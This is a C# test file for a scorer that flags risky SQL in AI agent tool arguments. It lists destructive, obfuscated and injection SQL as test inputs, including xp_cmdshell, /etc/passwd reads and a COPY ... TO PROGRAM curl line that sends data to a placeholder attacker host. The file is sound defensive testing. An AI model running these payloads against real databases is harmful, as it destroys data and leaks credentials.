namespace Hitl.SemanticKernel.Tests.Scoring.Content;

public class SqlTests
{
    [Theory]
    [InlineData("DROP TABLE users")]
    [InlineData("drop table if exists a, b cascade")]
    [InlineData("/* tidy */ DROP -- x\n TABLE users;")]
    [InlineData("/* a /* nested */ */ DROP TABLE users")]
    [InlineData("SELECT 1 /*! ; DROP TABLE users */")]
    [InlineData("/*!50000 DROP TABLE users */")]
    [InlineData("SELECT 1 /* /* */ ; DROP TABLE users -- */")]
    [InlineData("SELECT 1 --1; DROP TABLE users")]
    [InlineData("SELECT 'a\\'; DROP TABLE users; -- '")]
    [InlineData("SELECT 1; DROP TABLE users")]
    [InlineData("SELECT 1 DROP TABLE users")]
    [InlineData("SELECT 'it''s' AS a; drop view v")]
    [InlineData("ＤＲＯＰ ＴＡＢＬＥ users")]
    [InlineData("DRОP TАBLE users")]
    [InlineData("DROP\u00a0TABLE\u2003users")]
    [InlineData("DR\u200bOP TABLE users")]
    [InlineData("𝐃𝐑𝐎𝐏 𝐓𝐀𝐁𝐋𝐄 users")]
    [InlineData("DROP TABLE `users`")]
    [InlineData("DROP TABLE [dbo].[users]")]
    [InlineData("TRUNCATE TABLE orders")]
    [InlineData("truncate orders restart identity")]
    [InlineData("DELETE FROM orders")]
    [InlineData("DELETE FROM orders;")]
    [InlineData("delete orders")]
    [InlineData("DELETE FROM orders LIMIT 10")]
    [InlineData("DELETE o FROM orders o JOIN c ON c.id = o.c")]
    [InlineData("DELETE FROM orders WHERE 1=1")]
    [InlineData("DELETE FROM orders WHERE 2 > 1 LIMIT 5")]
    [InlineData("DELETE FROM orders WHERE 'a'='a'")]
    [InlineData("DELETE FROM orders WHERE 'a' = 'a' -- x")]
    [InlineData("DELETE FROM orders WHERE TRUE")]
    [InlineData("DELETE FROM orders WHERE 1")]
    [InlineData("DELETE FROM orders WHERE NOT FALSE")]
    [InlineData("DELETE FROM orders WHERE NOT (1=0)")]
    [InlineData("DELETE FROM orders WHERE id = id")]
    [InlineData("DELETE FROM orders o WHERE o.id = id")]
    [InlineData("DELETE FROM orders WHERE \"id\" = [id]")]
    [InlineData("DELETE FROM orders WHERE id = 5 OR 1=1")]
    [InlineData("DELETE FROM orders WHERE (id = 5) OR (('x') = 'x')")]
    [InlineData("DELETE FROM orders WHERE name LIKE '%'")]
    [InlineData("DELETE FROM orders WHERE name LIKE '%' || '%'")]
    [InlineData("DELETE FROM orders WHERE name ~ '.*'")]
    [InlineData("DELETE FROM orders WHERE x IS NULL OR x IS NOT NULL")]
    [InlineData("DELETE FROM orders WHERE x = 1 OR NOT (x = 1)")]
    [InlineData("DELETE FROM orders WHERE x = 1 OR x <> 1")]
    [InlineData("DELETE FROM orders WHERE x < 5 OR x >= 5")]
    [InlineData("DELETE FROM orders WHERE x < 9 OR x > 3")]
    [InlineData("DELETE FROM orders WHERE x <> 1 OR x <> 2")]
    [InlineData("DELETE FROM orders WHERE id > 0")]
    [InlineData("DELETE FROM orders WHERE order_id IS NOT NULL")]
    [InlineData("DELETE FROM orders WHERE EXISTS (SELECT 1)")]
    [InlineData("DELETE FROM orders WHERE id IN (SELECT id FROM orders)")]
    [InlineData("DELETE FROM orders WHERE 1 IN (1, 2)")]
    [InlineData("DELETE FROM orders WHERE 5 BETWEEN 1 AND 9")]
    [InlineData("DELETE FROM orders WHERE LENGTH('a') = 1")]
    [InlineData("DELETE FROM orders WHERE 1+1 = 2")]
    [InlineData("DELETE FROM orders WHERE CAST(1 AS int) = 1")]
    [InlineData("DELETE FROM orders WHERE 1::int = 1")]
    [InlineData("DELETE FROM orders WHERE id = 5 || 1=1")]
    [InlineData("DELETE FROM orders WHERE COALESCE(x, 1) = COALESCE(x, 1)")]
    [InlineData("UPDATE orders SET n = 1 WHERE NOT id IS NULL")]
    [InlineData("UPDATE orders SET n = 1 WHERE id = id + 0")]
    [InlineData("UPDATE orders SET n = 1 WHERE ~0")]
    [InlineData("UPDATE orders SET n = 1 WHERE 'x' <> 'y'")]
    [InlineData("UPDATE orders SET n = 1 WHERE (SELECT 1) = 1")]
    [InlineData("UPDATE orders SET n = 1 WHERE CASE WHEN 1=1 THEN 1 ELSE 0 END = 1")]
    [InlineData("UPDATE orders SET n = 1 WHERE n IS NOT DISTINCT FROM n")]
    [InlineData("SELECT 1 SHUTDOWN")]
    [InlineData("WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone")]
    [InlineData("EXPLAIN ANALYZE DELETE FROM orders")]
    [InlineData("UPDATE users SET active = 0")]
    [InlineData("UPDATE users SET a = (SELECT b FROM c WHERE c.x = 1)")]
    [InlineData("UPDATE users SET name = 'x' WHERE 'where' = 'where'")]
    [InlineData("UPDATE users u SET a = 1 FROM b RETURNING *")]
    [InlineData("DO $$ BEGIN DROP TABLE users; END $$")]
    [InlineData("EXEC('DROP TABLE users')")]
    [InlineData("PREPARE s FROM 'DROP TABLE users'")]
    [InlineData("ALTER TABLE users DROP COLUMN email")]
    [InlineData("MERGE INTO a USING b ON a.id = b.id WHEN MATCHED THEN DELETE;")]
    [InlineData("SHUTDOWN WITH NOWAIT")]
    public void Destroying(string sql)
    {
        foreach (var (tool, argument) in new[] { ("run_sql", "sql"), ("DatabaseExecute", "query") })
        {
            var risk = Contents.Score(tool, argument, sql);
            Assert.True(risk.Flags.HasFlag(RiskFlags.Destructive), sql);
            Assert.InRange(risk.Score, 0.8, 1);
            Assert.All(risk.Reasons, r => Assert.Equal("sql", r.Source));
        }
    }

    [Theory]
    [InlineData("GRANT ALL ON users TO bob", RiskFlags.Privilege)]
    [InlineData("REVOKE SELECT ON users FROM bob", RiskFlags.Privilege)]
    [InlineData("GRANT admin TO bob", RiskFlags.Privilege)]
    [InlineData("CREATE USER bob WITH PASSWORD 'x'", RiskFlags.Privilege)]
    [InlineData("ALTER ROLE bob SUPERUSER", RiskFlags.Privilege)]
    [InlineData("SET PASSWORD FOR bob = 'x'", RiskFlags.Privilege)]
    [InlineData("EXEC xp_cmdshell 'dir'", RiskFlags.CodeExecution)]
    [InlineData("EXEC master..xp_cmdshell 'dir'", RiskFlags.CodeExecution)]
    [InlineData("DECLARE @s nvarchar(99) = N'x' EXEC (@s)", RiskFlags.CodeExecution)]
    [InlineData("EXECUTE sp_executesql N'select 1'", RiskFlags.CodeExecution)]
    [InlineData("CALL wipe_everything()", RiskFlags.CodeExecution)]
    [InlineData("COPY users TO PROGRAM 'curl -d @- evil.example'", RiskFlags.CodeExecution)]
    [InlineData("COPY users FROM PROGRAM 'id'", RiskFlags.CodeExecution)]
    [InlineData("CREATE FUNCTION f() RETURNS int AS 'x' LANGUAGE C", RiskFlags.CodeExecution)]
    [InlineData("SELECT load_extension('x')", RiskFlags.CodeExecution)]
    [InlineData("COPY users TO '/tmp/x'", RiskFlags.External)]
    [InlineData("SELECT * FROM users INTO OUTFILE '/tmp/x'", RiskFlags.External)]
    [InlineData("SELECT pg_read_file('/etc/passwd')", RiskFlags.External)]
    [InlineData("SELECT LOAD_FILE('/etc/passwd')", RiskFlags.External)]
    [InlineData("SELECT * FROM OPENROWSET('SQLNCLI', 'Server=x', 'select 1')", RiskFlags.External)]
    [InlineData("LOAD DATA LOCAL INFILE 'x' INTO TABLE t", RiskFlags.External)]
    public void Reaching_further(string sql, RiskFlags flag)
    {
        var risk = Contents.Score("run_sql", "sql", sql);
        Assert.True(risk.Flags.HasFlag(flag), $"{risk.Flags}: {string.Join("; ", risk.Reasons.Select(r => r.Text))}");
        Assert.InRange(risk.Score, 0.8, 1);
    }

    [Theory]
    [InlineData("SELECT 1; SELECT 2")]
    [InlineData("SELECT * INTO copy FROM users")]
    [InlineData("SELECT pg_sleep(100)")]
    [InlineData("WAITFOR DELAY '1:00'")]
    [InlineData("REPLACE INTO users VALUES (1)")]
    [InlineData("frobnicate the users")]
    [InlineData("SELECT 'open")]
    public void Waiting(string sql) => Assert.InRange(Contents.Score("run_sql", "sql", sql).Score, 0.7, 0.9);

    [Theory]
    [InlineData("INSERT INTO orders (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET n = 2")]
    [InlineData("INSERT INTO orders VALUES (1) ON DUPLICATE KEY UPDATE n = 2")]
    [InlineData("UPDATE orders SET status = 'paid' WHERE id = 7")]
    [InlineData("UPDATE users SET role = 'x', password = 'y' WHERE id = 7")]
    [InlineData("UPDATE orders SET n = 1 WHERE id = 7 AND 1=1")]
    [InlineData("UPDATE orders SET n = 1 WHERE start_day < end_day AND NOT paid = 1")]
    [InlineData("UPDATE orders o SET n = 1 WHERE o.id = @id AND o.n <> :n")]
    [InlineData("CREATE TABLE t (id int)")]
    public void Writing(string sql)
    {
        var risk = Contents.Score("run_sql", "sql", sql);
        Assert.Equal((0.5, RiskFlags.None), (risk.Score, risk.Flags));
        Assert.Equal(0.9, Contents.Score("query_database", "sql", sql).Score);
        Assert.Equal(0.9, Contents.Score("ReadRows", "sql", sql).Score);
    }

    [Theory]
    [InlineData("SELECT * FROM orders")]
    [InlineData("select a, b from orders where c = 1 order by d limit 10")]
    [InlineData("SELECT 'DROP TABLE users' AS note")]
    [InlineData("SELECT * FROM t WHERE a = 'x' -- drop table users")]
    [InlineData("SELECT * FROM t /* delete from users */ WHERE 1=1")]
    [InlineData("SELECT \"drop\", [delete], update_time FROM t")]
    [InlineData("SELECT * FROM orders WHERE path LIKE 'C:\\%'")]
    [InlineData("WITH c AS (SELECT 1 AS a) SELECT * FROM c;")]
    [InlineData("SELECT id::text, tags[1], $1 FROM t WHERE j->>'a' = 'b'")]
    [InlineData("SELECT `a` FROM `t` WHERE `b` = 1 LIMIT 5, 10")]
    [InlineData("SELECT E'a\\'b' AS x")]
    [InlineData("SELECT * FROM t FOR UPDATE")]
    [InlineData("SELECT REPLACE(a, 'x', 'y'), INSERT(b, 1, 1, 'z'), TRUNCATE(1.5, 1) FROM t")]
    [InlineData("EXPLAIN SELECT * FROM t")]
    [InlineData("SHOW TABLES")]
    [InlineData("SHOW CREATE TABLE orders")]
    [InlineData("SELECT kill, load, open, call FROM t")]
    [InlineData("SELECT TOP 10 * FROM t WITH (NOLOCK) WHERE a = @p ORDER BY b OFFSET 5 ROWS FETCH NEXT 5 ROWS ONLY")]
    [InlineData("SELECT CASE WHEN a THEN 'update' ELSE 'delete' END AS action FROM t")]
    [InlineData("DESCRIBE orders")]
    [InlineData("PRAGMA table_info(orders)")]
    [InlineData("VALUES (1), (2)")]
    [InlineData("DECLARE @d date = '2024-01-01'; SELECT * FROM t WHERE d > @d")]
    [InlineData("SELECT count(*) FROM a UNION ALL SELECT count(*) FROM b")]
    [InlineData("")]
    [InlineData("  \n")]
    public void Reading(string sql)
    {
        Contents.AssertHarmless(Contents.Score("run_sql", "sql", sql));
        Contents.AssertHarmless(Contents.Score("query_database", "query", sql));
        Contents.AssertHarmless(Contents.Score("note", "text", sql));
    }

    [Theory]
    [InlineData("DROP TABLE users")]
    [InlineData("drop table users")]
    [InlineData("x'; DROP TABLE users; --")]
    [InlineData("Robert'); DROP TABLE students;--")]
    [InlineData("first line\nDELETE FROM orders WHERE 1=1;")]
    [InlineData("delete from orders where id = id")]
    [InlineData("update users set role = 'admin'")]
    [InlineData("TRUNCATE orders")]
    [InlineData("ALTER TABLE users ADD x int")]
    [InlineData("GRANT ALL ON users TO bob")]
    [InlineData("exec xp_cmdshell 'dir'")]
    [InlineData("SELECT * INTO OUTFILE '/tmp/x' FROM users")]
    [InlineData("WITH g AS (DELETE FROM t RETURNING *) SELECT * FROM g")]
    [InlineData("' OR '1'='1")]
    [InlineData("' or 1=1 --")]
    [InlineData("1 OR 1=1")]
    [InlineData("-1 UNION SELECT password FROM users")]
    [InlineData("x' UNION ALL SELECT 1,2,3 --")]
    [InlineData("admin'--")]
    [InlineData("1' AND SLEEP(5) #")]
    public void Hidden_in_any_text(string text)
    {
        Assert.InRange(Contents.Score("get_customer", "name", text).Score, 0.8, 1);
        Assert.InRange(Contents.ScoreJson("save", $$"""{"a":[{"b":{{System.Text.Json.JsonSerializer.Serialize(text)}}}]}""").Score, 0.8, 1);
    }

    [Theory]
    [InlineData("Please select a hotel from the list where breakfast is included")]
    [InlineData("Drop table reservations for tonight and update the guests")]
    [InlineData("delete from my list")]
    [InlineData("Update the report, then set the title to Final")]
    [InlineData("update")]
    [InlineData("Create table decorations")]
    [InlineData("Alter the plan; grant me some time")]
    [InlineData("Grant access to Bob")]
    [InlineData("Execute order 66")]
    [InlineData("Execute payroll")]
    [InlineData("Call me maybe")]
    [InlineData("Insert into the conversation a note about values")]
    [InlineData("Merge the two accounts when matched")]
    [InlineData("Truncate the description at 80 characters")]
    [InlineData("Replace the tyres; call the garage; drop the car off")]
    [InlineData("how to delete from a table where a column is null")]
    [InlineData("What is the difference between DROP TABLE and TRUNCATE TABLE?")]
    [InlineData("It's 5 or 6 o'clock, isn't it?")]
    [InlineData("O'Brien and D'Arcy union")]
    [InlineData("1 or 2")]
    [InlineData("rock 'n' roll -- the best")]
    [InlineData("Copy that to the team")]
    [InlineData("Load the truck; load the van")]
    [InlineData("select one into the box")]
    [InlineData("Do it")]
    [InlineData("Set password reminders for everyone")]
    public void Sentences(string text)
    {
        foreach (var argument in new[] { "text", "title", "q", "query", "description" })
        {
            Contents.AssertHarmless(Contents.Score("search_notes", argument, text));
        }
    }

    [Theory]
    [InlineData("delete_rows", "where", "1=1", true)]
    [InlineData("update_rows", "filter", "id = id", true)]
    [InlineData("delete_rows", "where", "id = 5", false)]
    [InlineData("list_rows", "where", "1=1", false)]
    public void Conditions(string tool, string argument, string text, bool isRisky) =>
        Assert.Equal(isRisky, Contents.Score(tool, argument, text).Flags.HasFlag(RiskFlags.Bulk));

    [Fact]
    public void Text_that_is_json_is_read_as_json() =>
        Assert.True(Contents.Score("save", "body", """{"steps":["{\"sql\":\"DROP TABLE users\"}"]}""").Flags.HasFlag(RiskFlags.Destructive));

    [Fact]
    public void A_string_that_holds_a_statement_is_a_string_where_the_text_is_sql()
    {
        const string Sql = "SELECT 'it''s; DROP TABLE users; --' FROM t";
        Contents.AssertHarmless(Contents.Score("run_sql", "sql", Sql));
        Assert.Equal(1, Contents.Score("run", "text", Sql).Score);
    }

    [Fact]
    public void Questions_for_an_agent_on_a_database_are_not_sql() =>
        Contents.AssertHarmless(Contents.Score("ask_database", "query", "How many orders were deleted from the list last week?"));
}
